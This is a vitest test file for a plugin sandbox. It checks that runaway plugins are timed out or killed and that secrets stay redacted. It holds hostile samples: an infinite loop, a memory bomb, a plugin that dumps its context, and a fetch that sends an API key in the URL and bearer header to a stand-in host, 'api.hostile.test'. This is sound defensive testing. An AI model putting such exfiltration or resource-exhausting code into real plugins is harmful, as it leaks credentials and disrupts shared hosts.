// Hostile plugins through the whole invoke path (route → queue → real executor → real
// isolates): an infinite loop ends timed_out within its budget + 250 ms, a memory bomb ends
// killed_memory, and while they spin other invocations still answer promptly. Secrets: a
// capability logs, returns, throws and sends its secret, and a caller passes it in as
// input; afterwards the WHOLE events table and every executions row (input, output, logs,
// error, requests) are searched, and so is every answer: the value is never there, and
// another capability of the same agent never sees it.
import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bearer, makeToken } from "./helpers/app";
import { codeCapability, installCapability, invoke, setUpInvokeWorld, uniqueSlug, type InvokeWorld } from "./invoke-setup";

let w: InvokeWorld;
let token: string;
let hostile: Awaited<ReturnType<typeof installCapability>>;
let bomber: Awaited<ReturnType<typeof installCapability>>;
let quick: Awaited<ReturnType<typeof installCapability>>;
let server: http.Server;
let port = 0;
const hits: { url: string; authorization?: string }[] = [];

const GRACE_MS = 250;

beforeAll(async () => {
  server = http.createServer((req, res) => {
    hits.push({ url: req.url ?? "", authorization: req.headers.authorization });
    res.setHeader("content-type", "application/json");
    // Echoes what it was sent: a plugin may try to smuggle the secret back this way.
    res.end(JSON.stringify({ url: req.url, auth: req.headers.authorization ?? null }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  // Two executors of two slots each: a spinning or exploding plugin holds one slot only.
  w = await setUpInvokeWorld({ env: { CAPREG_TRY_TEST_HOSTS: "api.hostile.test=127.0.0.1", CAPREG_TRY_TEST_TRUSTED_ADDRESSES: "127.0.0.1" }, executors: 2, slots: 2 });
  token = (await makeToken(w.t, w.owner, ["agents:invoke"])).token;
  hostile = await installCapability(
    w,
    codeCapability(uniqueSlug("hostile"), [
      { id: "spin", body: "      while (true) {}" },
      { id: "hang", body: "      await new Promise(() => {});" },
    ], { permissions: ["compute.light", "compute.moderate"] }),
    { grants: ["compute.light"] },
  );
  // A 10 s budget, so that only the memory limit stops the bomb, and `busy` can spin for seconds.
  bomber = await installCapability(
    w,
    codeCapability(
      uniqueSlug("bomber"),
      [
        { id: "bomb", body: "      const a = []; for (;;) a.push(new Array(1e6).fill(a.length));" },
        { id: "busy", body: "      const end = Date.now() + input.ms; while (Date.now() < end) {}\n      return { ok: true };", inputs: [{ name: "ms", type: "integer", required: true }] },
      ],
      { permissions: ["compute.moderate"] },
    ),
    { grants: ["compute.moderate"], agentId: hostile.agentId },
  );
  quick = await installCapability(w, codeCapability(uniqueSlug("quick"), [{ id: "ping", body: "      return { pong: input.n };", inputs: [{ name: "n", type: "integer", required: true }] }]), {
    agentId: hostile.agentId,
  });
});

afterAll(async () => {
  await w?.close();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

async function row(id: string) {
  return w.t.db.execution.findUniqueOrThrow({ where: { id } });
}

describe("limits through invoke", () => {
  test("while(true){} → timed_out within its 1 s budget + 250 ms", async () => {
    const r = await invoke(w, hostile.agentId, bearer(token), { action: `${hostile.slug}.spin`, input: {} });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ status: "timed_out", error: { code: "timed_out" } });
    const e = await row(r.body.executionId);
    expect(e.timeoutMs).toBe(1000);
    const resources = e.resources as { wallMs: number };
    expect(resources.wallMs).toBeGreaterThanOrEqual(1000 - 5);
    expect(resources.wallMs).toBeLessThanOrEqual(1000 + GRACE_MS);
    expect(e.durationMs!).toBeLessThanOrEqual(1000 + GRACE_MS);
  });

  test("a never-settling promise → timed_out by the watchdog", async () => {
    const r = await invoke(w, hostile.agentId, bearer(token), { action: `${hostile.slug}.hang`, input: {} });
    expect(r.body).toMatchObject({ status: "timed_out" });
    expect((await row(r.body.executionId)).durationMs!).toBeLessThanOrEqual(1000 + GRACE_MS);
  });

  test("a memory bomb → killed_memory, and the executor goes on", async () => {
    const r = await invoke(w, hostile.agentId, bearer(token), { action: `${bomber.slug}.bomb`, input: {} });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ status: "killed_memory", error: { code: "killed_memory" } });
    const after = await invoke(w, quick.agentId, bearer(token), { action: `${quick.slug}.ping`, input: { n: 7 } });
    expect(after.body).toMatchObject({ status: "succeeded", output: { pong: 7 } });
  });

  test("while plugins spin and explode, other invocations are answered promptly", async () => {
    const spinning = [
      invoke(w, hostile.agentId, bearer(token), { action: `${bomber.slug}.busy`, input: { ms: 4000 } }),
      invoke(w, hostile.agentId, bearer(token), { action: `${bomber.slug}.bomb`, input: {} }),
    ];
    // Both hostile ones are running before the quick ones start.
    const running = (action?: string) => w.t.db.execution.count({ where: { capabilitySlug: bomber.slug, status: "running", ...(action ? { action } : {}) } });
    for (let i = 0; i < 200 && (await running()) < 2; i++) await new Promise((r) => setTimeout(r, 5));
    expect(await running()).toBe(2);
    const times: number[] = [];
    for (let n = 0; n < 10; n++) {
      const r = await invoke(w, quick.agentId, bearer(token), { action: `${quick.slug}.ping`, input: { n } });
      expect(r.body).toMatchObject({ status: "succeeded", output: { pong: n } });
      times.push(r.ms);
    }
    // All ten were answered while the spinner was still spinning.
    expect(await running("busy")).toBe(1);
    const [busy, bomb] = await Promise.all(spinning);
    expect(busy!.body.status).toBe("succeeded");
    expect(bomb!.body.status).toBe("killed_memory");
    // Prompt: none waited for the spinner. (The machine is shared and a spinner holds one of
    // its two cores, so the bounds are generous; unloaded, each takes ~20 ms.)
    times.sort((a, b) => a - b);
    expect(times[4]!).toBeLessThan(300);
    expect(times[9]!).toBeLessThan(1000);
  });
});

describe("secrets", () => {
  test("never in events, execution rows, answers or another capability's output", async () => {
    const SECRET = `sk-test-${Math.random().toString(36).slice(2)}-${Date.now().toString(36)}`;
    const answers: string[] = [];
    const keep = <T extends { body: unknown }>(r: T): T => {
      answers.push(JSON.stringify(r.body));
      return r;
    };
    const leaky = await installCapability(
      w,
      codeCapability(
        uniqueSlug("leaky"),
        [
          { id: "log", body: "      console.log('the key is', ctx.secrets.API_KEY);\n      ctx.log({ key: ctx.secrets.API_KEY, nested: ['x' + ctx.secrets.API_KEY] });\n      return { length: ctx.secrets.API_KEY.length };" },
          { id: "give", body: "      return { leaked: ctx.secrets.API_KEY, inside: 'pre-' + ctx.secrets.API_KEY + '-post', config: ctx.config };" },
          { id: "throw", body: "      throw new Error('bad key ' + ctx.secrets.API_KEY);" },
          {
            id: "send",
            body:
              `      const res = await ctx.fetch('http://api.hostile.test:${port}/with?key=' + ctx.secrets.API_KEY, { headers: { authorization: 'Bearer ' + ctx.secrets.API_KEY } });\n` +
              "      const echoed = await res.json();\n      return { echoed, status: res.status };",
          },
          { id: "echo", body: "      return { got: input.value };", inputs: [{ name: "value", type: "string", required: true }] },
        ],
        { permissions: ["compute.light", "network.http.get"], allowed_domains: ["api.hostile.test"], configuration: [{ key: "API_KEY", type: "secret", required: true }, { key: "REGION", type: "string" }] },
      ),
      { grants: ["compute.light", "network.http.get"], config: { REGION: "eu" }, secrets: { API_KEY: SECRET }, agentId: hostile.agentId },
    );
    const snoop = await installCapability(
      w,
      codeCapability(uniqueSlug("snoop"), [
        { id: "look", body: "      return { ctx: JSON.stringify(ctx), keys: Object.getOwnPropertyNames(globalThis), visible: Object.keys(ctx.secrets ?? {}), config: ctx.config };" },
      ]),
      { agentId: hostile.agentId },
    );
    const call = async (action: string, input: Record<string, unknown> = {}) => keep(await invoke(w, hostile.agentId, bearer(token), { action: `${leaky.slug}.${action}`, input }));

    hits.length = 0;
    const logged = await call("log");
    expect(logged.body).toMatchObject({ status: "succeeded", output: { length: SECRET.length } });
    const given = await call("give");
    expect(given.body.status).toBe("succeeded");
    expect(given.body.output.config).toEqual({ REGION: "eu" });
    const thrown = await call("throw");
    expect(thrown.body).toMatchObject({ status: "failed", error: { code: "plugin_error" } });
    const sent = await call("send");
    expect(sent.body, JSON.stringify(sent.body)).toMatchObject({ status: "succeeded", output: { status: 200 } });
    // The request really carried the secret (so the searches below are not vacuous).
    expect(hits.some((h) => h.url.includes(SECRET) && h.authorization === `Bearer ${SECRET}`)).toBe(true);
    // A caller who sends the secret value as input does not get it stored either.
    const echoed = await call("echo", { value: `mine ${SECRET}` });
    expect(echoed.body.status).toBe("succeeded");
    const snooped = keep(await invoke(w, hostile.agentId, bearer(token), { action: `${snoop.slug}.look`, input: {} }));
    expect(snooped.body.status).toBe("succeeded");
    expect(snooped.body.output.visible).toEqual([]);

    for (const a of answers) expect(a).not.toContain(SECRET);
    const events = await w.t.db.$queryRawUnsafe<{ all: string | null }[]>(`SELECT string_agg(data::text || ' ' || coalesce(actor_id, '') || ' ' || correlation_id, E'\\n') AS all FROM events`);
    expect(events[0]!.all!.length).toBeGreaterThan(100);
    expect(events[0]!.all).not.toContain(SECRET);
    const rows = await w.t.db.$queryRawUnsafe<{ all: string | null; n: number }[]>(
      `SELECT count(*)::int AS n, string_agg(concat_ws(' ', input::text, output::text, logs::text, error::text, requests::text, error_code), E'\\n') AS all FROM executions`,
    );
    expect(rows[0]!.n).toBeGreaterThan(5);
    expect(rows[0]!.all).not.toContain(SECRET);
    // The leaks were there to be caught: the redaction marker is in the log, output and error.
    const leakRows = await w.t.db.execution.findMany({ where: { capabilitySlug: leaky.slug }, select: { action: true, logs: true, output: true, error: true, requests: true } });
    const byAction = Object.fromEntries(leakRows.map((r) => [r.action, r]));
    expect(JSON.stringify(byAction.log!.logs)).toContain("[REDACTED]");
    expect(JSON.stringify(byAction.give!.output)).toContain("[REDACTED]");
    expect(JSON.stringify(byAction.throw!.error)).toContain("[REDACTED]");
    expect(JSON.stringify(byAction.send!.requests)).toContain("/with");
  });
});
